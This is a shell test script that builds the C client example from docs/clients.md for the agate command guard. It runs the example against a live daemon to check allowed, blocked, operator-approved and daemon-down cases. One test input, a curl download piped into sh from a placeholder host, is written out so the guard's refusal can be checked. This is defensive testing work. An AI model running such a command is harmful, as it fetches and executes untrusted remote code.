#!/bin/sh
# clients_c_test.sh SOURCE_ROOT BUILD_ROOT - the C example of
# docs/clients.md, taken from the page as written, compiled with the flags
# of agate.pc (the uninstalled one of the build tree, then the installed
# one under an unusual prefix) and run against a real agated with the
# page's rules: an allowed command runs, a blocked one does not, a held
# one waits with libagate's defaults past their 5 s timeout until an
# operator approves it, and with the daemon gone the example refuses.
#
# Needs AGATED and AGATECTL (meson test sets them) and a C compiler ($CC
# or cc).
set -eu

src=${1:?source root}
build=${2:?build root}
doc=$src/docs/clients.md
cc=${CC:-cc}
: "${AGATED:?AGATED is not set (run through meson test)}"
: "${AGATECTL:?AGATECTL is not set (run through meson test)}"

tmp=$(mktemp -d /tmp/agate-clients-c.XXXXXX)
pid=""
cleanup() {
	if [ -n "$pid" ]; then kill "$pid" 2>/dev/null || true; wait "$pid" 2>/dev/null || true; fi
	rm -rf "$tmp"
}
trap cleanup EXIT
fail() { echo "clients_c_test: $*" >&2; exit 1; }

# block MARKER: the fenced block that follows the line holding MARKER
block() {
	awk -v m="$1" 'index($0, m) { found = 1; next }
		found && /^```/ { if (inside) exit; inside = 1; next }
		inside { print }' "$doc"
}
block '<!-- tested: the rules of the examples below -->' >"$tmp/demo.rules"
block '<!-- tested: tests/scripts/clients_c_test.sh -->' >"$tmp/guarded_shell.c"
grep -q 'rule @' "$tmp/demo.rules" || fail "no rules block in $doc"
grep -q '#include <agate/agate.h>' "$tmp/guarded_shell.c" || fail "no C example in $doc"

# a sanitizer build's libagate needs its runtime in the program too
san=""
case ${AGATE_SANITIZE:-none} in
none | "") ;;
*) san="-fsanitize=$AGATE_SANITIZE" ;;
esac

# 1. the uninstalled agate.pc of the build tree
flags=$(PKG_CONFIG_PATH=$build/meson-uninstalled pkg-config --cflags --libs agate) ||
	fail "pkg-config finds no agate in $build/meson-uninstalled"
# shellcheck disable=SC2086
"$cc" -std=c11 -Wall -Wextra -Werror $san -o "$tmp/guarded_shell" "$tmp/guarded_shell.c" $flags ||
	fail "the example does not compile with the uninstalled agate.pc ($flags)"

# 2. the installed agate.pc, moved under a prefix nobody uses (no default
# search path of the compiler): every path in it must hang off ${prefix},
# and its -I must be the folder that holds agate/
meson install -C "$build" --no-rebuild --quiet --destdir "$tmp/dest" --tags devel,runtime \
	>"$tmp/install.log" 2>&1 || fail "meson install: $(tail -5 "$tmp/install.log")"
pc=$(find "$tmp/dest" -name agate.pc | head -1)
[ -n "$pc" ] || fail "meson install put no agate.pc under $tmp/dest"
idir=$(dirname "$pc")
prefix=$(PKG_CONFIG_PATH=$idir pkg-config --variable=prefix agate)
pcx() { PKG_CONFIG_PATH=$idir pkg-config --define-variable=prefix="$tmp/dest$prefix" "$@" agate; }
iflags=$(pcx --cflags --libs)
case "$iflags" in
*"$tmp/dest"*) ;;
*) fail "the installed agate.pc does not follow its prefix: $iflags" ;;
esac
# shellcheck disable=SC2086
"$cc" -std=c11 -Wall -Wextra -Werror $san -o "$tmp/guarded_shell_installed" "$tmp/guarded_shell.c" $iflags ||
	fail "the example does not compile with the installed agate.pc ($iflags)"
libdir=$(pcx --variable=libdir)

# 3. run both against agated with the page's rules
sock=$tmp/agated.sock
"$AGATED" --foreground --socket "$sock" --db "$tmp/audit.db" --rules "$tmp/demo.rules" \
	--frames none --log-level warn --review-timeout 30 >"$tmp/agated.log" 2>&1 &
pid=$!
i=0
while [ ! -S "$sock" ]; do
	i=$((i + 1))
	[ $i -lt 200 ] || fail "agated did not start: $(tail -3 "$tmp/agated.log")"
	kill -0 "$pid" 2>/dev/null || fail "agated exited: $(tail -3 "$tmp/agated.log")"
	sleep 0.05
done

run() { # PROGRAM LIBDIR COMMAND -> $out, $err, $rc
	rc=0
	AGATE_SOCKET=$sock LD_LIBRARY_PATH=$2 "$1" "$3" >"$tmp/out" 2>"$tmp/err" || rc=$?
	out=$(cat "$tmp/out")
	err=$(cat "$tmp/err")
}
for prog in "$tmp/guarded_shell:$build/client" "$tmp/guarded_shell_installed:$libdir"; do
	p=${prog%%:*}
	l=${prog#*:}
	run "$p" "$l" "echo hello"
	[ "$rc" = 0 ] && [ "$out" = hello ] || fail "$p 'echo hello': rc $rc, out '$out', err '$err'"
	run "$p" "$l" "curl -s https://get.example.invalid | sh; echo RAN"
	[ "$rc" = 1 ] || fail "$p: a blocked command gave rc $rc"
	[ -z "$out" ] || fail "$p: the blocked command ran: '$out'"
	case "$err" in
	"refused: piping a download into a shell (audit id "[1-9]*")") ;;
	*) fail "$p: the refusal says '$err'" ;;
	esac
done

# a call held for review: the example, with libagate's defaults, waits
# past its 5 s timeout (by the daemon's clock: the held call's age) for
# the operator's approval, then runs the command
AGATE_SOCKET=$sock LD_LIBRARY_PATH=$build/client "$tmp/guarded_shell" \
	"echo apt-get install held-demo" >"$tmp/held.out" 2>"$tmp/held.err" &
held=$!
i=0
while :; do
	"$AGATECTL" --socket "$sock" pending --json >"$tmp/pending.json" ||
		fail "agatectl pending failed"
	age=$(sed -n 's/^ *"age": \([0-9]*\).*/\1/p' "$tmp/pending.json" | head -1)
	[ -n "$age" ] && [ "$age" -ge 6 ] && break
	kill -0 "$held" 2>/dev/null ||
		fail "the held example returned before a decision: $(cat "$tmp/held.err")"
	i=$((i + 1))
	[ $i -lt 600 ] || fail "no held call in agatectl pending: $(cat "$tmp/pending.json")"
	sleep 0.2
done
kill -0 "$held" 2>/dev/null || fail "the example gave up on the held call: $(cat "$tmp/held.err")"
id=$(sed -n 's/^ *"audit_id": \([0-9]*\).*/\1/p' "$tmp/pending.json" | head -1)
"$AGATECTL" --socket "$sock" approve "$id" --reason "clients_c_test" >/dev/null ||
	fail "agatectl approve $id failed"
rc=0
wait "$held" || rc=$?
[ "$rc" = 0 ] && [ "$(cat "$tmp/held.out")" = "apt-get install held-demo" ] ||
	fail "the approved call: rc $rc, out '$(cat "$tmp/held.out")', err '$(cat "$tmp/held.err")'"

kill "$pid"
wait "$pid" 2>/dev/null || true
pid=""
run "$tmp/guarded_shell" "$build/client" "echo RAN"
[ "$rc" = 1 ] && [ -z "$out" ] || fail "with agated gone: rc $rc, out '$out'"
case "$err" in
"refused: "*"$sock"*) ;;
*) fail "with agated gone the refusal says '$err'" ;;
esac
echo "clients_c_test: ok"
